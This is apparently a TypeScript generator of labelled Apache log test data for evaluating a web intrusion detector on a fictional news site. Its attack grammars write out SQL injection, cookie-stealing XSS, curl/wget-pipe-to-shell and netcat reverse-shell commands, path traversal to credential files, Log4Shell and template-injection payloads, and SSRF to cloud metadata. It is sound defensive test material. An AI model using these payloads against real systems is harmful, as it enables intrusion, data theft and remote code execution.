// Another web site (issue 24, item 4): a labelled access log of a news site with a JSON API, in
// Apache combined format, seeded. Nothing in it is the shop's: its own pages, parameters, clients and
// browsers. A normal day is readers, search, the API, static files of the day's deploy, feeds and
// bots; the eval day drifts as a real next day does (new articles and images, a new deploy's file
// names, new clients and IPv6, newer browsers, new search words) and carries labelled attacks, one
// seeded stream per class, each payload built from its class's grammar and put into the site's own
// parameters, path, referer or user agent. Test data only: the detector never reads this file.
import { seededRandom } from "../../host/core/random.js";
import { between, chance, hexOf, mixIn, pick, streamSeed, writeLabelled, type LabelledLog, type LabelledRecord, type Random } from "./labelled.js";

export const ATTACK_CLASSES = ["sqli", "xss", "traversal", "command", "scanner", "lookup", "ssrf", "unknown-parameter", "encoded"] as const;
export const NORMAL_CLASSES = ["page", "article", "search", "api", "static", "feed", "bot", "account", "not-found"] as const;
export type AttackClass = (typeof ATTACK_CLASSES)[number];
export type NormalClass = (typeof NORMAL_CLASSES)[number];

export type SiteRecord = LabelledRecord<AttackClass | NormalClass>;
/** The first day (the clean training log), and the next: drifted normal traffic with the attacks mixed in. */
export type SiteLog = LabelledLog<AttackClass | NormalClass>;

// ---------------------------------------------------------------------------------------------
// The site's vocabulary.

const SECTIONS = ["world", "politics", "business", "tech", "sport", "culture", "science", "opinion"];
const WORDS = (
  "election budget storm river council market energy vaccine court league final merger startup climate " +
  "festival museum orbit rover drought harvest strike union bank rates housing transport rail airport " +
  "summit treaty border ministry police school teachers hospital nurses doctors study galaxy telescope " +
  "battery chip software privacy data breach cloud launch satellite concert album film director award " +
  "coach transfer season record injury goal derby marathon cycling tennis open ceasefire talks protest"
).split(" ");
const ACCENTED = ["café", "müller", "señora", "zürich", "élysée", "łódź", "são paulo", "göteborg", "crème", "ångström", "dvořák", "o'brien", "d'arcy"];
const FIRST = ["anna", "jonas", "maria", "pedro", "li", "sofia", "omar", "emma", "lucas", "nora", "ivan", "chloe", "kenji", "fatima"];
const LAST = ["keller", "garcia", "novak", "smith", "rossi", "tanaka", "okafor", "dubois", "larsen", "silva", "kowalski", "haddad"];
const DOMAINS = ["gmail.com", "outlook.com", "yahoo.com", "proton.me", "example.org", "web.de", "icloud.com"];
const CAMPAIGNS = ["morning-brief", "weekend-read", "breaking", "election-night", "tech-weekly", "sport-digest"];
const SOURCES = ["twitter", "facebook", "newsletter", "linkedin", "reddit"];

function browsers(versionShift: number): string[] {
  const chrome = 120 + versionShift;
  const firefox = 121 + versionShift;
  return [
    `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome}.0.0.0 Safari/537.36`,
    `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome}.0.0.0 Safari/537.36`,
    `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome}.0.0.0 Safari/537.36`,
    `Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:${firefox}.0) Gecko/20100101 Firefox/${firefox}.0`,
    `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.${2 + versionShift} Safari/605.1.15`,
    `Mozilla/5.0 (iPhone; CPU iPhone OS 17_${2 + versionShift} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.${2 + versionShift} Mobile/15E148 Safari/604.1`,
    `Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome}.0.6099.${between(seededRandom(chrome), 100, 230)} Mobile Safari/537.36`,
    `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${chrome}.0.0.0 Safari/537.36 Edg/${chrome}.0.2210.${61 + versionShift}`,
  ];
}
const NEW_BROWSERS = [
  "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
  "Mozilla/5.0 (Linux; Android 14; SM-S928B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
  "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/123.0.6312.52 Mobile/15E148 Safari/604.1",
];
const BOTS = [
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
  "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
  "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 412 subscribers)",
  "UptimeRobot/2.0 (http://www.uptimerobot.com/)",
];

// ---------------------------------------------------------------------------------------------
// Encodings, as a browser sends them.

const utf8 = new TextEncoder();
const hex2 = (b: number) => b.toString(16).toUpperCase().padStart(2, "0");
/** application/x-www-form-urlencoded: letters, digits and -_.* kept, space as '+'. */
export function formEncode(text: string): string {
  let out = "";
  for (const b of utf8.encode(text)) {
    const c = String.fromCharCode(b);
    out += /[A-Za-z0-9\-_.*]/.test(c) ? c : c === " " ? "+" : `%${hex2(b)}`;
  }
  return out;
}
/** What a client puts in a path: unreserved and a few sub-delims kept. */
function pathEncode(text: string): string {
  let out = "";
  for (const b of utf8.encode(text)) {
    const c = String.fromCharCode(b);
    out += /[A-Za-z0-9\-_.~!$&'()*+,;=:@/]/.test(c) ? c : `%${hex2(b)}`;
  }
  return out;
}
/** Apache's escaping of the request line, referer and user agent in its log: '"' and '\' escaped, bytes above 0x7e as \xhh. */
function apacheEscape(text: string): string {
  let out = "";
  for (const b of utf8.encode(text)) {
    if (b === 0x22 || b === 0x5c) out += `\\${String.fromCharCode(b)}`;
    else if (b < 0x20 || b > 0x7e) out += `\\x${b.toString(16).padStart(2, "0")}`;
    else out += String.fromCharCode(b);
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// One day of the site: its articles, deploy, clients.

interface Day {
  date: string; // 12/Mar/2024
  articles: { section: string; slug: string; id: number; month: string }[];
  deploy: { app: string; vendor: string; css: string };
  images: string[];
  clients: string[];
  browsers: string[];
  words: string[];
}

const slugOf = (r: Random) => Array.from({ length: between(r, 3, 7) }, () => pick(r, WORDS)).join("-");

function ipv4(r: Random): string {
  const nets = [[81, 2], [88, 12], [95, 91], [176, 9], [185, 30], [46, 114], [62, 210], [213, 55], [37, 44], [151, 38]];
  const [a, b] = pick(r, nets);
  return `${a}.${b + between(r, 0, 40)}.${between(r, 0, 255)}.${between(r, 1, 254)}`;
}
function ipv6(r: Random): string {
  const prefixes = ["2a02:8108", "2001:16b8", "2a01:cb00", "2003:e8", "2a00:23c7"];
  const groups = Array.from({ length: 4 }, () => between(r, 0, 0xffff).toString(16));
  return `${pick(r, prefixes)}:${hexOf(r, 4).replace(/^0+/, "") || "0"}::${groups.slice(0, between(r, 1, 4)).join(":")}`;
}

function makeDay(r: Random, date: string, previous: Day | null): Day {
  const articles = previous ? previous.articles.slice(-60) : [];
  let id = previous ? previous.articles[previous.articles.length - 1].id : 48_000;
  const month = date.split("/")[1];
  for (let i = 0, n = previous ? 40 : 160; i < n; i++) articles.push({ section: pick(r, SECTIONS), slug: slugOf(r), id: ++id, month });
  const images = (previous ? previous.images.slice(-200) : []).concat(Array.from({ length: previous ? 80 : 300 }, () => `${slugOf(r)}-${pick(r, ["1200x630", "800x450", "400x225"])}.${pick(r, ["jpg", "webp"])}`));
  const clients = (previous ? previous.clients.slice(0, 300) : []).concat(Array.from({ length: previous ? 900 : 1200 }, () => (chance(r, previous ? 0.3 : 0.12) ? ipv6(r) : ipv4(r))));
  const words = previous ? WORDS.concat(ACCENTED) : WORDS;
  return {
    date,
    articles,
    deploy: { app: hexOf(r, 8), vendor: hexOf(r, 8), css: hexOf(r, 8) },
    images,
    clients,
    browsers: previous ? browsers(3).concat(NEW_BROWSERS) : browsers(0),
    words,
  };
}

interface Request {
  method: string;
  target: string;
  status: number;
  referer: string;
  agent: string;
}

const SITE = "https://www.daily-example.com";

function articlePath(a: Day["articles"][number]): string {
  return `/news/${a.section}/2024/${a.month === "Mar" ? "03" : "04"}/${a.slug}-${a.id}`;
}

function tracking(r: Random): string {
  if (chance(r, 0.5)) return `utm_source=${pick(r, SOURCES)}&utm_medium=social&utm_campaign=${pick(r, CAMPAIGNS)}`;
  return `fbclid=IwAR${Array.from({ length: 40 }, () => "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"[Math.floor(r() * 64)]).join("")}`;
}

function searchWords(r: Random, day: Day): string {
  return Array.from({ length: between(r, 1, 3) }, () => pick(r, day.words)).join(" ");
}

function referer(r: Random, day: Day): string {
  const x = r();
  if (x < 0.35) return "-";
  if (x < 0.7) return `${SITE}${articlePath(pick(r, day.articles))}`;
  if (x < 0.85) return `${SITE}/`;
  if (x < 0.95) return "https://www.google.com/";
  return `https://t.co/${Array.from({ length: 10 }, () => "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"[Math.floor(r() * 56)]).join("")}`;
}

/** One normal request of the day, and its class. */
function normalRequest(r: Random, day: Day): [Request, NormalClass] {
  const agent = pick(r, day.browsers);
  const req = (target: string, cls: NormalClass, status = 200, method = "GET", ref = referer(r, day), ua = agent): [Request, NormalClass] => [
    { method, target, status, referer: ref, agent: ua },
    cls,
  ];
  const x = r();
  const article = pick(r, day.articles);
  if (x < 0.1) return req(chance(r, 0.2) ? `/?${tracking(r)}` : "/", "page");
  if (x < 0.18) return req(`/news/${pick(r, SECTIONS)}${chance(r, 0.5) ? `?page=${between(r, 2, 30)}` : ""}`, "page");
  if (x < 0.34) return req(articlePath(article) + (chance(r, 0.15) ? `?${tracking(r)}` : ""), "article");
  if (x < 0.4) return req(`/author/${pick(r, FIRST)}-${pick(r, LAST)}`, "page");
  if (x < 0.47) {
    const q = `q=${formEncode(searchWords(r, day))}${chance(r, 0.4) ? `&section=${pick(r, SECTIONS)}` : ""}${chance(r, 0.3) ? `&sort=${pick(r, ["date", "relevance"])}` : ""}`;
    return req(`/search?${q}`, "search");
  }
  if (x < 0.55) {
    const api = r();
    if (api < 0.4) return req(`/api/v1/articles/${article.id}/comments?limit=${pick(r, [10, 20, 50])}&offset=${pick(r, [0, 20, 40, 60])}`, "api", 200, "GET", `${SITE}${articlePath(article)}`);
    if (api < 0.7) return req(`/api/v1/articles?section=${pick(r, SECTIONS)}&since=2024-03-${between(r, 10, 13)}T${String(between(r, 0, 23)).padStart(2, "0")}:00:00Z`, "api", 200, "GET", `${SITE}/`);
    if (api < 0.85) return req(`/api/v1/articles/${article.id}/comments`, "api", pick(r, [201, 201, 422]), "POST", `${SITE}${articlePath(article)}`);
    return req(`/api/v1/recommendations?article=${article.id}&count=${pick(r, [3, 5])}`, "api", 200, "GET", `${SITE}${articlePath(article)}`);
  }
  if (x < 0.8) {
    const s = r();
    const status = chance(r, 0.3) ? 304 : 200;
    const ref = chance(r, 0.8) ? `${SITE}${articlePath(article)}` : `${SITE}/`;
    if (s < 0.2) return req(`/assets/app.${day.deploy.app}.js`, "static", status, "GET", ref);
    if (s < 0.35) return req(`/assets/vendor.${day.deploy.vendor}.js`, "static", status, "GET", ref);
    if (s < 0.5) return req(`/assets/site.${day.deploy.css}.css`, "static", status, "GET", ref);
    if (s < 0.9) return req(`/media/2024/03/${pick(r, day.images)}`, "static", status, "GET", ref);
    return req(pick(r, ["/favicon.ico", "/apple-touch-icon.png", "/manifest.json", "/assets/fonts/source-serif-4.woff2"]), "static", status, "GET", ref);
  }
  if (x < 0.85) return req(pick(r, ["/feed.xml", `/feed/${pick(r, SECTIONS)}.rss`]), "feed", pick(r, [200, 304]), "GET", "-", chance(r, 0.6) ? BOTS[3] : agent);
  if (x < 0.93) {
    const bot = pick(r, BOTS);
    const path = pick(r, ["/robots.txt", "/sitemap.xml", `/sitemaps/articles-2024-03.xml`, articlePath(article), `/news/${pick(r, SECTIONS)}`, "/"]);
    return req(path, "bot", 200, bot === BOTS[4] ? "HEAD" : "GET", "-", bot);
  }
  if (x < 0.98) {
    const a = r();
    if (a < 0.3) return req("/login", "account", pick(r, [200, 302, 302, 401]), "POST", `${SITE}/login`);
    if (a < 0.5) return req("/login", "account", 200, "GET");
    if (a < 0.65) return req("/account/settings", "account", 200);
    if (a < 0.8) return req("/logout", "account", 302);
    return req(`/newsletter/subscribe?email=${formEncode(`${pick(r, FIRST)}.${pick(r, LAST)}${chance(r, 0.3) ? between(r, 1, 99) : ""}@${pick(r, DOMAINS)}`)}`, "account", 200, "POST", `${SITE}${articlePath(article)}`);
  }
  // A mistyped or stale link: the site answers 404.
  const stale = chance(r, 0.5) ? `${articlePath(article).slice(0, -2)}` : `/news/${pick(r, SECTIONS)}/2023/11/${slugOf(r)}-${between(r, 30_000, 47_000)}`;
  return req(stale, "not-found", 404);
}

// ---------------------------------------------------------------------------------------------
// Attacks: each class's payloads from its grammar.

const caseMix = (r: Random, word: string) => (chance(r, 0.3) ? word.split("").map((c) => (chance(r, 0.5) ? c.toUpperCase() : c)).join("") : chance(r, 0.5) ? word.toUpperCase() : word);

function sqli(r: Random): string {
  const q = pick(r, ["'", '"', "", "')", "1'", "1"]);
  const space = pick(r, [" ", " ", "/**/", "+"]);
  const cmt = pick(r, ["-- ", "--", "#", "/*", ""]);
  const kw = (w: string) => caseMix(r, w);
  const cols = Array.from({ length: between(r, 1, 6) }, (_, i) => (chance(r, 0.7) ? "NULL" : String(i + 1))).join(",");
  const forms = [
    () => `${q}${space}${kw("or")}${space}${pick(r, ["1=1", "'1'='1", "2>1", "'a'='a", "true"])}${cmt}`,
    () => `${q}${space}${kw("union")}${space}${kw("select")}${space}${cols}${space}${kw("from")}${space}${pick(r, ["users", "information_schema.tables", "mysql.user", "pg_shadow"])}${cmt}`,
    () => `${q}${space}${kw("and")}${space}${kw("sleep")}(${between(r, 3, 10)})${cmt}`,
    () => `${q};${space}${kw("waitfor")}${space}${kw("delay")}${space}'0:0:${between(r, 5, 9)}'${cmt}`,
    () => `${q}${space}${kw("and")}${space}${kw("extractvalue")}(1,${kw("concat")}(0x7e,(${kw("select")}${space}${kw("version")}())))${cmt}`,
    () => `${between(r, 1, 9999)}${space}${kw("order")}${space}${kw("by")}${space}${between(r, 1, 30)}${cmt}`,
    () => `${q};${space}${kw("drop")}${space}${kw("table")}${space}${pick(r, ["users", "articles", "sessions"])}${cmt}`,
    () => `${q}${space}||${space}(${kw("select")}${space}${kw("pg_sleep")}(${between(r, 3, 9)}))${cmt}`,
  ];
  return pick(r, forms)();
}

function xss(r: Random): string {
  const js = pick(r, ["alert(1)", "alert(document.cookie)", "prompt(1)", "fetch('//x.example/'+document.cookie)", "eval(atob('YWxlcnQoMSk='))", "confirm`1`"]);
  const forms = [
    () => `<script>${js}</script>`,
    () => `"><${caseMix(r, "img")} src=x ${caseMix(r, "onerror")}=${js}>`,
    () => `'><svg/onload=${js}>`,
    () => `${caseMix(r, "javascript")}:${js}`,
    () => `<iframe src="javascript:${js}"></iframe>`,
    () => `"${pick(r, [" ", "/"])}${pick(r, ["onmouseover", "onfocus", "autofocus onfocus"])}=${js}${pick(r, [' x="', " //"])}`,
    () => `<body onload=${js}>`,
    () => `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  ];
  return pick(r, forms)();
}

function traversal(r: Random): string {
  const up = pick(r, ["../", "..\\", "..%2f", "%2e%2e/", "....//", "..;/", "%2e%2e%2f"]);
  const target = pick(r, ["etc/passwd", "etc/shadow", "windows/win.ini", "proc/self/environ", "var/www/.env", "etc/hosts", "boot.ini"]);
  const tail = pick(r, ["", "", "%00", "%00.jpg", "\0.html"]);
  return `${up.repeat(between(r, 3, 9))}${target}${tail}`.replace("\0", "%00");
}

function command(r: Random): string {
  const cmd = pick(r, ["id", "cat /etc/passwd", "uname -a", "whoami", "curl http://198.51.100.7/x.sh|sh", "wget -qO- 203.0.113.9/b|bash", "nc -e /bin/sh 198.51.100.7 4444", "sleep 10", "ping -c 3 127.0.0.1"]);
  return pick(r, [`;${cmd}`, `|${cmd}`, `\`${cmd}\``, `$(${cmd})`, `&& ${cmd}`, `%0a${cmd}`, `1;${cmd};`]);
}

function lookup(r: Random): string {
  const host = `${hexOf(r, 6)}.${pick(r, ["oast.fun", "interact.sh", "burpcollaborator.net", "dnslog.cn"])}`;
  return pick(r, [
    `\${jndi:ldap://${host}/a}`,
    `\${jndi:\${lower:l}\${lower:d}ap://${host}/x}`,
    `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://${host}/o}`,
    `{{7*7}}`,
    `{{config.__class__.__init__.__globals__['os'].popen('id').read()}}`,
    `\${7*7}`,
    `<%= 7*7 %>`,
    `#{7*7}`,
    `\${T(java.lang.Runtime).getRuntime().exec('id')}`,
  ]);
}

function ssrf(r: Random): string {
  return pick(r, [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://127.0.0.1:6379/",
    "http://localhost:8080/actuator/env",
    "file:///etc/passwd",
    "gopher://127.0.0.1:11211/_stats",
    "http://[::1]:22/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "dict://127.0.0.1:6379/info",
  ]);
}

const SCANNER_PATHS = [
  "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/install.php", "/xmlrpc.php", "/phpmyadmin/index.php",
  "/pma/index.php", "/admin.php", "/administrator/index.php", "/config.json", "/.aws/credentials", "/server-status",
  "/actuator/env", "/actuator/heapdump", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci/;stok=/locale",
  "/boaform/admin/formLogin", "/HNAP1/", "/solr/admin/info/system", "/backup.zip", "/db.sql", "/dump.sql", "/.DS_Store",
  "/owa/auth/logon.aspx", "/remote/login", "/+CSCOE+/logon.html", "/console/login/LoginForm.jsp", "/manager/html",
  "/jenkins/script", "/telescope/requests", "/_profiler/phpinfo", "/info.php", "/phpinfo.php", "/web.config", "/.htaccess",
  "/wp-content/plugins/revslider/temp/update_extract/revslider/db.php", "/shell.php", "/cmd.php", "/.vscode/sftp.json",
  "/api/v1/pods", "/v2/_catalog", "/.well-known/security.txt.bak", "/server/config.yml", "/debug/pprof/", "/graphql?query={__schema{types{name}}}",
];
const SCANNER_AGENTS = [
  "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "sqlmap/1.7.2#stable (https://sqlmap.org)",
  "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "python-requests/2.31.0",
  "curl/8.4.0", "Go-http-client/1.1", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
];

/** Where a payload goes in a request of the site: one of its own parameters, the path, the referer or the user agent. */
function carry(r: Random, day: Day, payload: string, cls: AttackClass): Request {
  const agent = pick(r, day.browsers);
  const article = pick(r, day.articles);
  const status = pick(r, [200, 200, 400, 403, 404, 500]);
  const place = r();
  const ref = referer(r, day);
  const enc = formEncode(payload);
  if (place < 0.25) return { method: "GET", target: `/search?q=${enc}${chance(r, 0.4) ? `&section=${pick(r, SECTIONS)}` : ""}`, status, referer: ref, agent };
  if (place < 0.4) return { method: "GET", target: `/api/v1/articles/${article.id}/comments?limit=${pick(r, [10, 20])}&offset=${enc}`, status, referer: ref, agent };
  if (place < 0.5) return { method: "GET", target: `/api/v1/articles?section=${enc}&since=2024-03-12T00:00:00Z`, status, referer: ref, agent };
  if (place < 0.6) return { method: "GET", target: `/news/${pick(r, SECTIONS)}?page=${enc}`, status, referer: ref, agent };
  if (place < 0.7) return { method: "GET", target: `/api/v1/recommendations?article=${enc}&count=3`, status, referer: ref, agent };
  if (place < 0.8) return { method: "POST", target: `/newsletter/subscribe?email=${enc}`, status, referer: ref, agent };
  if (place < 0.88) return { method: "GET", target: `/?utm_source=${pick(r, SOURCES)}&utm_medium=social&utm_campaign=${enc}`, status, referer: ref, agent };
  if (place < 0.94 && cls !== "traversal") return { method: "GET", target: articlePath(article), status: 200, referer: ref, agent: payload };
  if (place < 0.97 && cls !== "traversal") return { method: "GET", target: "/", status: 200, referer: payload, agent };
  return { method: "GET", target: `/media/2024/03/${pathEncode(payload)}`, status: pick(r, [400, 404]), referer: ref, agent };
}

function attackRequest(r: Random, day: Day, cls: AttackClass): Request {
  switch (cls) {
    case "sqli":
      return carry(r, day, sqli(r), cls);
    case "xss":
      return carry(r, day, xss(r), cls);
    case "traversal":
      return carry(r, day, traversal(r), cls);
    case "command":
      return carry(r, day, `${pick(r, ["1", "news", "a@b.c", ""])}${command(r)}`, cls);
    case "lookup":
      return carry(r, day, lookup(r), cls);
    case "ssrf":
      return { method: "GET", target: `/api/v1/${pick(r, ["preview", "proxy", "embed", "fetch"])}?${pick(r, ["url", "src", "target", "uri"])}=${formEncode(ssrf(r))}`, status: pick(r, [200, 400, 404]), referer: "-", agent: pick(r, day.browsers) };
    case "scanner":
      return { method: chance(r, 0.8) ? "GET" : pick(r, ["POST", "HEAD", "PROPFIND"]), target: pick(r, SCANNER_PATHS), status: pick(r, [404, 404, 404, 403, 400]), referer: "-", agent: chance(r, 0.5) ? pick(r, day.browsers) : pick(r, SCANNER_AGENTS) };
    case "unknown-parameter": {
      const payload = pick(r, [sqli, xss, traversal, lookup])(r);
      const name = pick(r, ["debug", "id", "file", "redirect", "cmd", "callback", "lang", "template", "admin", "next"]);
      const article = pick(r, day.articles);
      const base = pick(r, [articlePath(article), "/", `/news/${pick(r, SECTIONS)}`, `/author/${pick(r, FIRST)}-${pick(r, LAST)}`]);
      return { method: "GET", target: `${base}?${name}=${formEncode(payload)}`, status: pick(r, [200, 200, 400, 500]), referer: referer(r, day), agent: pick(r, day.browsers) };
    }
    case "encoded": {
      // Encoded twice, or every byte encoded, as a filter evasion.
      const payload = pick(r, [sqli, xss, traversal, command])(r);
      const once = chance(r, 0.5) ? formEncode(payload) : [...utf8.encode(payload)].map((b) => `%${hex2(b)}`).join("");
      const twice = chance(r, 0.5) ? once.replace(/%/g, "%25") : once;
      return { method: "GET", target: `/search?q=${twice}`, status: pick(r, [200, 400]), referer: referer(r, day), agent: pick(r, day.browsers) };
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Lines.

function line(r: Random, day: Day, second: number, req: Request, client?: string): string {
  const h = Math.floor(second / 3600);
  const m = Math.floor((second % 3600) / 60);
  const s = second % 60;
  const two = (n: number) => String(n).padStart(2, "0");
  const bytes = req.status === 304 || req.method === "HEAD" ? 0 : between(r, 180, 120_000);
  const who = client ?? pick(r, day.clients);
  return `${who} - - [${day.date}:${two(h)}:${two(m)}:${two(s)} +0100] "${req.method} ${apacheEscape(req.target)} HTTP/1.1" ${req.status} ${bytes || "-"} "${apacheEscape(req.referer)}" "${apacheEscape(req.agent)}"`;
}

function normalDay(seed: number, day: Day, count: number): SiteRecord[] {
  const r = seededRandom(streamSeed(seed, `normal ${day.date}`));
  const out: SiteRecord[] = [];
  for (let i = 0; i < count; i++) {
    const [req, cls] = normalRequest(r, day);
    out.push({ line: line(r, day, Math.floor((i * 86_400) / count), req), label: "0", cls });
  }
  return out;
}

/**
 * The site's log: a clean training day of `trainLines`, and the next day of `evalLines` normal lines
 * with `perClass` attacks of every class mixed in (from attackers' own addresses).
 */
export function siteLog(seed: number, trainLines = 10_000, evalLines = 10_000, perClass = 60): SiteLog {
  const r = seededRandom(streamSeed(seed, "days"));
  const first = makeDay(r, "11/Mar/2024", null);
  const next = makeDay(r, "12/Mar/2024", first);
  const training = normalDay(seed, first, trainLines);
  const evalDay = normalDay(seed, next, evalLines);
  const attacks: { at: number; record: SiteRecord }[] = [];
  for (const cls of ATTACK_CLASSES) {
    const a = seededRandom(streamSeed(seed, `attack ${cls}`));
    const attacker = chance(a, 0.3) ? ipv6(a) : ipv4(a);
    for (let i = 0; i < perClass; i++) {
      const at = Math.floor(a() * evalLines);
      const second = Math.floor((at * 86_400) / evalLines);
      attacks.push({ at, record: { line: line(a, next, second, attackRequest(a, next, cls), chance(a, 0.7) ? attacker : undefined), label: cls, cls } });
    }
  }
  return { training, eval: mixIn(evalDay, attacks) };
}

/** Writes site_clean.log, site.log and site.labels into `dir` for `tarkin eval`. */
export const writeSite = (dir: string, log: SiteLog) => writeLabelled(dir, "site", log);
